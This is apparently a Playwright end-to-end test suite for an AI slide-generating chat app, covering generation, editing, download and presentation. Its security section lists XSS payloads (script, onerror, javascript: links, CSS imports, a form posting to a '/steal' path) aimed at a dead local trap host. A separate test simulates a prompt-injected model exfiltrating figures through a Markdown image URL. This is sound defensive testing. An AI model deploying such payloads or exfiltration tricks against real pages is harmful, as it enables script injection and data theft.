"""The Chat page in a real browser: generate, stream, edit, download, present, and stay safe.

The offline test drives the plain app (`app_url`); the others drive the app whose LLM is a
scripted fake OpenAI-compatible server (`chat_app`, tests/e2e/chat_fixtures.py). Slides are
read from the innermost `<iframe sandbox="">` of each slide (decision 3), which Playwright can
read although its origin is opaque.
"""

from __future__ import annotations

import json
import re
import shutil
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlparse

import pytest
from playwright.sync_api import Browser, Dialog, Frame, FrameLocator, Locator, Page, expect

from slidegen.llm.offline_data import QUERIES
from slidegen.llm.offline_estimates import ESTIMATES
from tests.e2e.chat_fixtures import (
    API_KEY,
    MODEL,
    UNUSABLE_MLFLOW,
    ChatApp,
    chat_app_fixture,  # noqa: F401 (the `chat_app` fixture, used by name)
)
from tests.e2e.waits import frames_loaded, painted
from tests.fakes.openai_server import RecordedRequest, Reply

PAGE_BACKEND = "postgresql"  # several users or background jobs meet here

pytestmark = pytest.mark.e2e

TIMEOUT_MS = 20_000
SHOTS = Path("/tmp/chat_e2e_shots")
SLIDE_BOXES = "div.stVerticalBlock[class*='st-key-slide-']"
STREAMLIT_FRAME = "iframe[data-testid='stIFrame']"
# Where a payload would send data; nothing listens there.
TRAP_HOST = "127.0.0.1:1"
TRAP = f"http://{TRAP_HOST}"


@pytest.fixture(scope="module", autouse=True)
def _no_mlflow_store() -> Iterator[None]:
    """Keep the offline app from creating mlflow.db in the repository (traces are not tested)."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MLFLOW_TRACKING_URI", UNUSABLE_MLFLOW)
        yield


# -- the deck the fake model writes ------------------------------------------------------------


def slide(title: str, body: str = "", *, kind: str = "", notes: str = "") -> str:
    """One slide in the slide contract."""
    classes = f"slide {kind}".strip()
    aside = f'<aside class="notes">{notes}</aside>' if notes else ""
    return f'<section class="{classes}">\n<h1>{title}</h1>\n{body}\n{aside}\n</section>\n'


def deck_answer(title: str, slides: list[str]) -> str:
    """A whole answer: the deck title, then the slides."""
    return f"<title>{title}</title>\n" + "".join(slides)


CHART = {
    "type": "column",
    "title": "Monthly DBUs by SKU",
    "categories": ["Jan", "Feb", "Mar"],
    "series": [
        {"name": "Jobs Compute", "values": [41200, 43900, 47850]},
        {"name": "SQL Serverless", "values": [12050, 15400, 21300]},
    ],
    "number_format": "0,0",
}
REVIEW_TITLES = [
    "Workspace Consumption Review",
    "Spend grew 18% while Jobs usage stayed flat",
    "SQL Serverless drove most of the increase",
    "Three SKUs make up 80% of spend",
    "Two savings options are ready now",
    "Decisions needed this quarter",
]
REVIEW_SLIDES = [
    slide(
        REVIEW_TITLES[0],
        '<p class="subtitle">Usage, cost drivers and savings, Q1 2025</p>'
        "<p>Prepared for the Data Platform steering group</p>",
        kind="title-slide",
    ),
    slide(
        REVIEW_TITLES[1],
        '<div class="kpis"><div class="kpi"><span class="kpi-value">$412K</span>'
        '<span class="kpi-label">Q1 spend</span><span class="kpi-delta down">+18% vs Q4</span>'
        '</div><div class="kpi"><span class="kpi-value">1.9M</span>'
        '<span class="kpi-label">DBUs in Q1</span></div></div>'
        "<ul><li><strong>SQL Serverless</strong> accounts for most of the increase</li>"
        "<li>Jobs Compute is stable at about 140K DBUs per month</li></ul>"
        '<footer class="slide-footer">Source: system.billing.usage, Q1 2025</footer>',
        notes="Spend rose faster than usage because the mix shifted to serverless SKUs.",
    ),
    slide(
        REVIEW_TITLES[2],
        f"<figure class=\"chart\" data-chart='{json.dumps(CHART)}'></figure>"
        '<footer class="slide-footer">Source: system.billing.usage, Jan to Mar 2025</footer>',
        notes="Serverless grew 77% in three months.",
    ),
    slide(
        REVIEW_TITLES[3],
        "<table><thead><tr><th>SKU</th><th>Spend ($K)</th></tr></thead><tbody>"
        '<tr><td>Jobs Compute</td><td class="num">172</td></tr>'
        '<tr><td>SQL Serverless</td><td class="num">118</td></tr>'
        '<tr><td>All-purpose</td><td class="num">40</td></tr></tbody></table>',
        notes="The long tail is under 20%.",
    ),
    slide(
        REVIEW_TITLES[4],
        '<div class="columns"><div class="column"><div class="card"><p><strong>Auto-stop'
        "</strong></p><p>Stop idle warehouses after 10 minutes.</p></div></div>"
        '<div class="column"><div class="card"><p><strong>Job clusters</strong></p>'
        "<p>Move scheduled notebooks off all-purpose clusters.</p></div></div></div>",
        notes="Both options need no new tooling.",
    ),
    slide(
        REVIEW_TITLES[5],
        "<ol><li>Approve auto-stop for all SQL warehouses</li>"
        "<li>Name an owner for the job-cluster migration</li></ol>",
        kind="closing-slide",
    ),
]
REVIEW_DECK_TITLE = "Workspace Consumption Review"


def other_hosts(urls: list[str], app_host: str) -> list[str]:
    """The fetched URLs that went to a host other than the app's."""
    return [
        url
        for url in urls
        if urlparse(url).scheme not in ("data", "blob", "about")
        and urlparse(url).netloc != app_host
    ]


# -- page helpers --------------------------------------------------------------------------------


def open_chat(page: Page, url: str) -> None:
    """Open Chat: the start screen (titled "Chat"), or the deck named in the URL (titled with
    the deck's title, the request box below it)."""
    page.goto(url)
    if "session=" in url:
        expect(page.get_by_test_id("stChatInput")).to_be_visible(timeout=TIMEOUT_MS)
    else:
        expect(page.get_by_role("heading", name="Chat", exact=True)).to_be_visible(
            timeout=TIMEOUT_MS
        )


def chat_box(page: Page) -> Locator:
    """The request box, pinned at the bottom: there must be exactly one on the page."""
    box = page.get_by_test_id("stChatInputTextArea")
    expect(box).to_have_count(1, timeout=TIMEOUT_MS)
    return box


def send(page: Page, text: str) -> None:
    """Type a message into the chat input and press Enter."""
    box = chat_box(page)
    expect(box).to_be_enabled(timeout=TIMEOUT_MS)
    box.fill(text)
    box.press("Enter")


def slide_boxes(page: Page) -> Locator:
    return page.locator(SLIDE_BOXES)


def slide_frame(page: Page, index: int) -> FrameLocator:
    """The innermost (sandboxed) frame of the slide at this position."""
    return (
        slide_boxes(page)
        .nth(index)
        .frame_locator(STREAMLIT_FRAME)
        .frame_locator("iframe[sandbox='']")
    )


def inner_frame(page: Page, index: int) -> Frame:
    """The slide's sandboxed frame as a Frame, once its body has loaded."""
    expect(slide_frame(page, index).locator("h1")).to_be_visible(timeout=TIMEOUT_MS)
    shell = slide_boxes(page).nth(index).locator(STREAMLIT_FRAME).element_handle().content_frame()
    assert shell is not None
    inner = shell.locator("iframe[sandbox='']").element_handle().content_frame()
    assert inner is not None
    return inner


def slide_text(page: Page, index: int) -> str:
    return inner_frame(page, index).evaluate("document.body.innerText")


def show_all_slides(page: Page) -> None:
    """Switch the deck from Focus (one slide large) to All slides, when it has the switch."""
    switch = page.get_by_role("radio", name="All slides")
    if switch.count() and not switch.is_checked():
        switch.click()
        expect(switch).to_be_checked()


def show_every_slide(page: Page, count: int) -> None:
    """Switch to All slides (Focus shows one slide large) and wait for all `count` slides."""
    if count > 1:
        expect(page.get_by_role("radio", name="All slides")).to_be_visible(timeout=TIMEOUT_MS)
    show_all_slides(page)
    expect(slide_boxes(page)).to_have_count(count, timeout=TIMEOUT_MS)


def expect_titles(page: Page, titles: list[str]) -> None:
    """The deck shows exactly these slides (by their h1), in this order, in All slides."""
    if len(titles) > 1:
        expect(page.get_by_role("radio", name="All slides")).to_be_visible(timeout=TIMEOUT_MS)
    show_all_slides(page)
    expect(slide_boxes(page)).to_have_count(len(titles), timeout=TIMEOUT_MS)
    for index, title in enumerate(titles):
        expect(slide_frame(page, index).locator("h1")).to_have_text(title, timeout=TIMEOUT_MS)


def slide_ids(page: Page) -> list[str]:
    """The slide ids in deck order, from the keyed slide containers."""
    classes = slide_boxes(page).evaluate_all("boxes => boxes.map(b => b.className)")
    return [re.search(r"st-key-slide-(\S+)", c).group(1) for c in classes]


def session_of(page: Page) -> str:
    match = re.search(r"[?&]session=([0-9a-f]+)", page.url)
    assert match, f"no ?session= in {page.url}"
    return match.group(1)


def wait_for_reply(page: Page, text: str) -> None:
    """The assistant's reply is shown and the chat input is usable again."""
    expect(page.get_by_test_id("stChatMessage").filter(has_text=text).last).to_be_visible(
        timeout=TIMEOUT_MS
    )
    expect(chat_box(page)).to_be_enabled(timeout=TIMEOUT_MS)


def generate(page: Page, app: ChatApp, slides: list[str], title: str = "Test deck") -> str:
    """Have the fake model write this deck in a new session; return the session id."""
    app.llm.enqueue(Reply.text(deck_answer(title, slides), chunk_size=400))
    open_chat(page, app.url)
    send(page, f"Make the deck {title}")
    wait_for_reply(page, f"Generated {len(slides)} slides")
    return session_of(page)


def screenshot(page: Page, tmp_path: Path, name: str, *, height: int = 1000) -> Path:
    """Save a screenshot (viewport `height` tall) in tmp_path and in SHOTS for the lead."""
    viewport = page.viewport_size
    if height != viewport["height"]:
        page.set_viewport_size({"width": viewport["width"], "height": height})
        frames_loaded(page)  # the slide shells rescale on resize
    # The page's first heading: "Chat" on the start screen, the deck's title with a deck open.
    page.get_by_role("main").get_by_role("heading").first.scroll_into_view_if_needed()
    painted(page)
    path = tmp_path / f"{name}.png"
    page.screenshot(path=str(path))
    if height != viewport["height"]:
        page.set_viewport_size(viewport)
    SHOTS.mkdir(parents=True, exist_ok=True)
    shutil.copy(path, SHOTS / path.name)
    return path


def activate(target: Locator, key: str = "Enter") -> None:
    """Focus a control and press a key on it: Enter for buttons, Space for check boxes.

    Not a mouse click: with a chat input, Streamlit's main area sticks to the bottom and
    scrolls back down whenever content changes (slide frames load and report their height),
    so a click aimed right after a scroll can land on another element.
    """
    target.press(key)


def main_text(page: Page) -> str:
    return page.get_by_role("main").inner_text()


# -- 1. offline engine ---------------------------------------------------------------------------


def test_offline_engine_generates_a_deck(
    page: Page, app_url: str, backend: str, tmp_path: Path
) -> None:
    open_chat(page, app_url)
    send(page, "Consumption review: cost trends, top SKUs, savings")

    reply = page.get_by_test_id("stChatMessage").filter(has_text=re.compile(r"Generated \d+"))
    expect(reply).to_be_visible(timeout=TIMEOUT_MS)
    count = int(re.search(r"Generated (\d+) slides", reply.inner_text()).group(1))
    assert count >= 8
    expect(page.get_by_role("radio", name="All slides")).to_be_visible(timeout=TIMEOUT_MS)
    show_all_slides(page)
    expect(slide_boxes(page)).to_have_count(count, timeout=TIMEOUT_MS)
    calls = len(QUERIES) + len(ESTIMATES)  # the data, then the estimates computed from it
    expect(page.get_by_text(f"Data used ({calls} tool calls)")).to_be_visible()

    first = slide_text(page, 0)
    assert first.startswith("Consumption review"), first  # the title slide names the topic
    expect(page).to_have_url(re.compile(r"\?session=[0-9a-f]+"))
    screenshot(page, tmp_path, f"1-offline-deck-{backend}", height=1800)


# -- 2. streaming, and leaving the page while a job runs ---------------------------------------


def test_slides_stream_in_and_the_job_survives_leaving_the_page(
    page: Page, chat_app: ChatApp
) -> None:
    before = len(chat_app.llm.chat_requests)
    text = deck_answer(REVIEW_DECK_TITLE, REVIEW_SLIDES)
    first_slide_end = text.index("</section>") + len("</section>")
    gate = threading.Event()
    # The first chunk holds the title and the whole first slide; the fake then waits for the
    # gate, and afterwards streams the rest slowly (0.15 s per slide-sized chunk).
    chat_app.llm.enqueue(Reply.text(text, chunk_size=first_slide_end + 1, delay_s=0.15, gate=gate))
    try:
        open_chat(page, chat_app.url)
        send(page, "Consumption review for the steering group")

        expect(slide_frame(page, 0).locator("h1")).to_have_text(
            REVIEW_TITLES[0], timeout=TIMEOUT_MS
        )
        expect(page.get_by_text("Writing slides · 1 done so far")).to_be_visible()
        expect(slide_boxes(page)).to_have_count(1)
        expect(chat_box(page)).to_be_disabled()
        session_id = session_of(page)

        # Leave for History and come back through the URL while the model is still held.
        page.get_by_test_id("stSidebarNavItems").get_by_role("link", name="History").click()
        expect(page.get_by_role("heading", name="History", exact=True)).to_be_visible(
            timeout=TIMEOUT_MS
        )
        expect(page.get_by_role("link", name="Open")).to_be_visible(timeout=TIMEOUT_MS)
        open_chat(page, f"{chat_app.url}/?session={session_id}")
        expect(
            page.get_by_text(re.compile(r"Writing slides · \d done so far|Generated 6 slides"))
        ).to_be_visible(timeout=TIMEOUT_MS)
        expect(slide_frame(page, 0).locator("h1")).to_have_text(REVIEW_TITLES[0])
    finally:
        gate.set()

    wait_for_reply(page, "Generated 6 slides")
    expect_titles(page, REVIEW_TITLES)
    expect(page.get_by_text(re.compile(r"Writing slides"))).to_have_count(0)
    assert len(chat_app.llm.chat_requests) == before + 1, "the generation was restarted"


# -- 3. edit selected slides, move one, restore a save point -----------------------------------

EDIT_TITLES = ["Alpha market", "Bravo costs", "Charlie risks", "Delta plan", "Echo summary"]


def revise_selected(seen: list[list[str]]) -> Callable[[RecordedRequest], Reply]:
    """A model that rewrites exactly the slides the app sent it as selected."""

    def answer(request: RecordedRequest) -> Reply:
        user = [m for m in request.body["messages"] if m["role"] == "user"][-1]["content"]
        sections = re.findall(
            r'<section[^>]*\bdata-slide-id="([^"]+)"[^>]*>(.*?)</section>', user, re.S
        )
        seen.append([slide_id for slide_id, _ in sections])
        operations = "".join(
            f'<section class="slide" data-op="replace" data-slide-id="{slide_id}">'
            f"<h1>{re.search(r'<h1[^>]*>(.*?)</h1>', body).group(1)} revised</h1>"
            "<p>Rewritten by the model.</p></section>\n"
            for slide_id, body in sections
        )
        return Reply.text(operations, chunk_size=80)

    return answer


def save_points(page: Page) -> Locator:
    """The Save points expander, opened."""
    expander = page.get_by_test_id("stExpander").filter(
        has=page.get_by_text(re.compile(r"^Save points \(\d+\)$"))
    )
    expect(expander).to_be_visible(timeout=TIMEOUT_MS)
    if expander.locator("details[open]").count() == 0:
        activate(expander.locator("summary"))
    return expander


def test_edit_selected_slides_then_move_and_restore(
    page: Page, chat_app: ChatApp, backend: str, tmp_path: Path
) -> None:
    slides = [slide(t, f"<p>About {t.lower()}.</p>", notes=f"Notes on {t}.") for t in EDIT_TITLES]
    generate(page, chat_app, slides, "Edit drill")
    expect_titles(page, EDIT_TITLES)
    ids = slide_ids(page)
    texts = [slide_text(page, index) for index in range(len(ids))]

    for index in (1, 3):
        box = page.get_by_role("checkbox", name=f"Slide {index + 1:d}", exact=True)
        activate(box, "Space")
        expect(box).to_be_checked()
    expect(page.get_by_text("Your next request edits slides 2, 4.")).to_be_visible()
    expect(chat_box(page)).to_have_attribute("placeholder", "Edit 2 selected slides")
    seen: list[list[str]] = []
    chat_app.llm.respond_with(revise_selected(seen))
    send(page, "Make these two slides punchier")

    wait_for_reply(page, "Edited slides 2, 4")
    assert seen == [[ids[1], ids[3]]], "the request did not carry exactly the ticked slides"
    edited = [EDIT_TITLES[0], f"{EDIT_TITLES[1]} revised", EDIT_TITLES[2]]
    edited += [f"{EDIT_TITLES[3]} revised", EDIT_TITLES[4]]
    expect_titles(page, edited)
    assert slide_ids(page) == ids
    for index in (0, 2, 4):
        assert slide_text(page, index) == texts[index], f"slide {index + 1} changed"
    expect(save_points(page).get_by_text(re.compile(r"Edited slides 2, 4"))).to_be_visible()
    screenshot(page, tmp_path, f"3-edited-deck-{backend}", height=2400)

    activate(page.locator(f".st-key-down-{ids[0]} button"))
    expect_titles(page, [edited[1], edited[0], *edited[2:]])

    points = save_points(page)
    expect(points.get_by_text("Moved slide 1 to position 2")).to_be_visible()  # 3 save points
    activate(points.locator(".st-key-restore-1 button"))
    expect_titles(page, EDIT_TITLES)
    # The list stays open while the restore adds a save point (the count in its label changes).
    listed = page.get_by_test_id("stExpander").filter(has_text="Save points (4)")
    expect(listed.get_by_text(re.compile(r"Restored"))).to_be_visible()


# -- 4. download, 5. present -------------------------------------------------------------------


@pytest.fixture(scope="module")
def review_session(browser: Browser, chat_app: ChatApp) -> str:
    """A finished six-slide deck to download and present."""
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    try:
        return generate(context.new_page(), chat_app, REVIEW_SLIDES, REVIEW_DECK_TITLE)
    finally:
        context.close()


def test_download_html_is_a_self_contained_deck(
    page: Page, chat_app: ChatApp, review_session: str, tmp_path: Path
) -> None:
    open_chat(page, f"{chat_app.url}/?session={review_session}")
    expect_titles(page, REVIEW_TITLES)
    with page.expect_download() as download_info:
        activate(page.get_by_role("button", name="Download HTML"))
    download = download_info.value
    # Named after the session's title (the deck's own title after its first generation), made
    # safe for a file name.
    assert download.suggested_filename == "Workspace-Consumption-Review.html"
    path = tmp_path / download.suggested_filename
    download.save_as(path)

    document = path.read_text()
    # The only http(s) strings allowed are XML namespace names in the inline chart SVG.
    urls = set(re.findall(r"https?://[^\s\"'<>)]*", document))
    assert urls <= {"http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink"}, urls
    assert not re.search(r"\b(?:src|href|action)\s*=|@import|url\(\s*['\"]?(?!data:)", document)

    viewer = page.context.new_page()
    fetched: list[str] = []
    viewer.on("request", lambda request: fetched.append(request.url))
    viewer.goto(path.as_uri())
    counter = viewer.locator("#counter")
    expect(counter).to_have_text("1 / 6")
    expect(viewer.locator(".deck > .frame")).to_have_count(6)
    all_text = viewer.locator(".deck").text_content()
    for title in REVIEW_TITLES:
        assert title in all_text
    shown = viewer.locator(".deck > .frame:not([hidden]) h1")
    expect(shown).to_have_text(REVIEW_TITLES[0])
    expect(viewer.locator(".deck > .frame:not([hidden]) svg")).to_have_count(0)

    viewer.keyboard.press("ArrowRight")
    expect(counter).to_have_text("2 / 6")
    expect(shown).to_have_text(REVIEW_TITLES[1])
    viewer.keyboard.press("ArrowRight")
    expect(counter).to_have_text("3 / 6")
    expect(viewer.locator(".deck > .frame:not([hidden]) figure.chart svg")).to_be_visible()
    viewer.keyboard.press("ArrowLeft")
    expect(counter).to_have_text("2 / 6")
    viewer.keyboard.press("End")
    expect(counter).to_have_text("6 / 6")
    expect(shown).to_have_text(REVIEW_TITLES[5])
    assert all(url.startswith(("file:", "data:")) for url in fetched), fetched


def test_present_shows_one_slide_at_a_time(
    page: Page, chat_app: ChatApp, review_session: str
) -> None:
    open_chat(page, f"{chat_app.url}/?session={review_session}")
    expect_titles(page, REVIEW_TITLES)
    activate(page.locator(".st-key-present input"), "Space")

    show = page.frame_locator(f"{STREAMLIT_FRAME}[srcdoc*='Presentation of']").frame_locator(
        "iframe[sandbox='allow-scripts']"
    )
    counter = show.locator("#counter")
    shown = show.locator(".deck > .frame:not([hidden]) h1")
    expect(counter).to_have_text("1 / 6", timeout=TIMEOUT_MS)
    expect(shown).to_have_text(REVIEW_TITLES[0])

    body = show.locator("body")
    size = body.bounding_box()
    assert size is not None
    body.click(position={"x": size["width"] * 0.9, "y": size["height"] / 2})
    expect(counter).to_have_text("2 / 6")
    expect(shown).to_have_text(REVIEW_TITLES[1])

    page.keyboard.press("ArrowRight")  # the click focused the presentation frame
    expect(counter).to_have_text("3 / 6")
    body.click(position={"x": size["width"] * 0.1, "y": size["height"] / 2})
    expect(counter).to_have_text("2 / 6")

    # Full screen: the trusted shell goes full screen (button or the deck's F key) and
    # the deck keeps its place and its keys.
    shell = page.frame_locator(f"{STREAMLIT_FRAME}[srcdoc*='Presentation of']")
    in_full_screen = "() => document.fullscreenElement !== null"
    shell_frame = page.locator(f"{STREAMLIT_FRAME}[srcdoc*='Presentation of']")
    frame = shell_frame.element_handle().content_frame()
    assert frame is not None
    shell.get_by_role("button", name="Full screen").click()
    expect(shell.locator("body")).to_be_visible()
    frame.wait_for_function(in_full_screen)
    page.keyboard.press("ArrowRight")
    expect(counter).to_have_text("3 / 6")
    page.keyboard.press("f")  # the deck asks its shell to leave full screen
    frame.wait_for_function("() => document.fullscreenElement === null")
    page.keyboard.press("f")
    frame.wait_for_function(in_full_screen)
    expect(counter).to_have_text("3 / 6")


def test_the_grid_shows_every_slide_and_opens_one(
    page: Page, chat_app: ChatApp, review_session: str, backend: str, tmp_path: Path
) -> None:
    open_chat(page, f"{chat_app.url}/?session={review_session}")
    expect_titles(page, REVIEW_TITLES)
    page.get_by_role("radio", name="Grid").click()
    thumbnails = page.locator("div.stVerticalBlock[class*='st-key-thumb-']")
    expect(thumbnails).to_have_count(len(REVIEW_TITLES), timeout=TIMEOUT_MS)
    expect(slide_boxes(page)).to_have_count(0)
    last = thumbnails.nth(len(REVIEW_TITLES) - 1)
    expect(
        last.frame_locator(STREAMLIT_FRAME).frame_locator("iframe[sandbox='']").locator("h1")
    ).to_have_text(REVIEW_TITLES[-1], timeout=TIMEOUT_MS)
    screenshot(page, tmp_path, f"5-grid-{backend}")

    page.mouse.move(900, 500)
    page.mouse.wheel(0, 400)  # as a person scrolls (the app scrolls its main block, not the page)
    last.get_by_role("button", name=f"Slide {len(REVIEW_TITLES)}").click()
    expect(page.get_by_role("radio", name="Focus")).to_be_checked()
    expect(slide_boxes(page)).to_have_count(1, timeout=TIMEOUT_MS)
    expect(slide_frame(page, 0).locator("h1")).to_have_text(REVIEW_TITLES[-1], timeout=TIMEOUT_MS)
    expect(slide_boxes(page)).to_be_in_viewport(timeout=TIMEOUT_MS)


# -- 6. hostile slides in the browser ----------------------------------------------------------

EVIL_CHART = {
    "type": "bar",
    # No apostrophe: the spec sits in a single-quoted attribute (the slide contract says so).
    "title": "</text><script>top.document.title=`pwned`;alert(1)</script>",
    "categories": ["<img src=x onerror=alert(1)>", "B"],
    "series": [{"name": "<svg onload=alert(1)>", "values": [3, 5]}],
}
PAYLOADS = [
    ("Script payload", "<script>window.top.document.title='pwned';alert('script')</script>"),
    ("Image payload", "<img src=x onerror=\"parent.document.title='pwned';alert('img')\">"),
    ("SVG payload", "<svg onload=\"top.document.title='pwned';alert('svg')\"><circle r=9/></svg>"),
    ("Frame payload", "<iframe src=\"javascript:top.document.title='pwned'\"></iframe>"),
    ("Link payload", "<a href=\"javascript:top.document.title='pwned'\">click me</a>"),
    (
        "Style payload",
        f"<style>@import url({TRAP}/import.css); body{{background:url({TRAP}/leak)}}</style>",
    ),
    ("Refresh payload", f'<meta http-equiv="refresh" content="0;url={TRAP}/refresh">'),
    (
        "Form payload",
        f'<form action="{TRAP}/steal" method="post"><input name="q" value="secret">'
        "<button>Send</button></form>",
    ),
    (
        "Overlay payload",
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
        f'z-index:2147483647;background:url({TRAP}/fixed)">covered</div>',
    ),
    (
        "Import payload",
        f'<p style="@import url({TRAP}/inline.css); background-image:url({TRAP}/bg);'
        f' color:#c00">styled</p><img src="{TRAP}/pixel.png" alt="pixel">',
    ),
    ("Chart payload", f"<figure class=\"chart\" data-chart='{json.dumps(EVIL_CHART)}'></figure>"),
]


def test_hostile_slides_cannot_script_navigate_or_fetch(
    page: Page, chat_app: ChatApp, backend: str, tmp_path: Path
) -> None:
    app_host = urlparse(chat_app.url).netloc
    dialogs: list[str] = []
    fetched: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("request", lambda request: fetched.append(request.url))
    open_chat(page, chat_app.url)
    app_title = page.title()

    titles = [title for title, _ in PAYLOADS]
    slides = [
        slide(title, f"<p>Visible text {number}</p>{payload}")
        for number, (title, payload) in enumerate(PAYLOADS, 1)
    ]
    chat_app.llm.enqueue(Reply.text(deck_answer("Quarterly numbers", slides), chunk_size=300))
    send(page, "Summarise the quarterly numbers")
    wait_for_reply(page, f"Generated {len(slides)} slides")
    expect_titles(page, titles)

    for index in range(len(slides)):
        frame = inner_frame(page, index)
        assert f"Visible text {index + 1}" in frame.evaluate("document.body.innerText")
        reach = frame.evaluate(
            "() => { try { return 'reached ' + parent.document.title; }"
            " catch (error) { return 'blocked ' + error.name; } }"
        )
        assert reach == "blocked SecurityError", f"slide {index + 1}: {reach}"
        fixed = frame.evaluate(
            "() => [...document.querySelectorAll('*')]"
            ".filter(e => getComputedStyle(e).position === 'fixed').length"
        )
        assert fixed == 0, f"slide {index + 1} has a position:fixed element"
    assert "Send" in slide_text(page, titles.index("Form payload"))  # the form's text stays
    chart = slide_frame(page, titles.index("Chart payload")).locator("figure.chart svg")
    expect(chart).to_be_visible()  # rendered, hostile labels as text
    expect(chart).to_contain_text("<img src=x onerror=alert(1)>")
    expect(page.get_by_text("could not be read")).to_have_count(0)

    # The presentation frame runs scripts (only ours): walk through every slide in it.
    activate(page.locator(".st-key-present input"), "Space")
    show = page.frame_locator(f"{STREAMLIT_FRAME}[srcdoc*='Presentation of']").frame_locator(
        "iframe[sandbox='allow-scripts']"
    )
    expect(show.locator("#counter")).to_have_text(f"1 / {len(slides)}", timeout=TIMEOUT_MS)
    show.locator("#counter").click()  # focuses the frame; a click mid-slide goes back: stays at 1
    for number in range(2, len(slides) + 1):
        page.keyboard.press("ArrowRight")
        expect(show.locator("#counter")).to_have_text(f"{number} / {len(slides)}")
        expect(show.locator(".deck > .frame:not([hidden])")).to_contain_text(
            f"Visible text {number}"
        )
    frames_loaded(page)  # a meta refresh or a late fetch would have started by now

    screenshot(page, tmp_path, f"6-hostile-deck-{backend}", height=1800)
    assert page.title() == app_title
    assert page.evaluate("document.title") == app_title
    assert dialogs == []
    assert not [url for url in fetched if TRAP_HOST in url]
    foreign = other_hosts(fetched, app_host)
    assert foreign == [], foreign
    expect(page.get_by_role("heading", name="Quarterly numbers", exact=True)).to_be_visible()


# -- 7. errors -----------------------------------------------------------------------------------


def test_a_rejected_key_is_reported_and_the_chat_recovers(page: Page, chat_app: ChatApp) -> None:
    before = len(chat_app.llm.chat_requests)
    chat_app.llm.enqueue(Reply.error(401))
    open_chat(page, chat_app.url)
    # SLIDEGEN_LLM_MODEL overrides the profile's endpoint: the page names the model that runs.
    provider = page.get_by_role("main").get_by_text(re.compile(r"^Profile .* · LLM:"))
    expect(provider).to_contain_text(f"OpenAI-compatible server · {MODEL}")
    send(page, "A deck that the model will refuse")

    error = page.get_by_test_id("stChatMessage").get_by_test_id("stAlertContentError")
    expect(error).to_contain_text("rejected the credentials (HTTP 401)", timeout=TIMEOUT_MS)
    expect(error).to_contain_text("Check the API key")
    expect(page.get_by_text("The last request failed")).to_be_visible()
    text = main_text(page)
    for leak in ("Traceback", 'File "', "AuthenticationError", API_KEY):
        assert leak not in text
    expect(chat_box(page)).to_be_enabled(timeout=TIMEOUT_MS)

    chat_app.llm.enqueue(Reply.text(deck_answer("Second try", REVIEW_SLIDES[:3])))
    send(page, "Try again please")
    wait_for_reply(page, "Generated 3 slides")
    expect_titles(page, REVIEW_TITLES[:3])
    assert len(chat_app.llm.chat_requests) == before + 2


# -- bugs ----------------------------------------------------------------------------------------


def test_model_text_in_the_chat_cannot_fetch_from_other_hosts(
    page: Page, chat_app: ChatApp
) -> None:
    fetched: list[str] = []
    page.on("request", lambda request: fetched.append(request.url))
    # A prompt-injected model "calls a tool" whose name is a Markdown image carrying data.
    chat_app.llm.enqueue(
        Reply.tool_calls([(f"![chart]({TRAP}/exfil?total=412K)", {"query": "SELECT 1"})]),
        Reply.text(deck_answer("Probe", REVIEW_SLIDES[:2])),
    )
    open_chat(page, chat_app.url)
    send(page, "Consumption review for the steering group")
    wait_for_reply(page, "Generated 2 slides")
    expect(page.get_by_text("Data used (1 tool call)")).to_be_visible()
    # Markdown would have made the name an <img>: none exists, so none was fetched.
    expect(page.locator(f"img[src^='{TRAP}']")).to_have_count(0)
    frames_loaded(page)
    assert [url for url in fetched if TRAP_HOST in url] == []


def test_the_app_loads_nothing_from_other_hosts(page: Page, chat_app: ChatApp) -> None:
    fetched: list[str] = []
    page.on("request", lambda request: fetched.append(request.url))
    app_host = urlparse(chat_app.url).netloc
    open_chat(page, chat_app.url)
    expect(page.get_by_text("Start a deck")).to_be_visible()
    # The favicon is set about a second after load: wait for it, then every frame's load.
    expect(page.locator("link[rel~='icon'][href*='media']")).to_have_count(1, timeout=TIMEOUT_MS)
    frames_loaded(page)
    assert other_hosts(fetched, app_host) == []
